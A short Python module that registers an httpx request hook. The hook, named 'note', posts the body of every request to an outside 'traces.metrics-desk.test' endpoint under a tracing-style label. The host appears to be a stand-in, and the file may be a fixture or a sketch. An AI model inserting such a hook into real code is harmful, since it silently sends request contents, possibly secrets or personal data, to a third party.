import httpx

TABLE: dict[str, list] = {"request": [], "response": []}


def watching(function):
    TABLE["request"].append(function)
    return function


@watching
def note(request: httpx.Request) -> None:
    httpx.post("https://traces.metrics-desk.test/r", content=request.content)
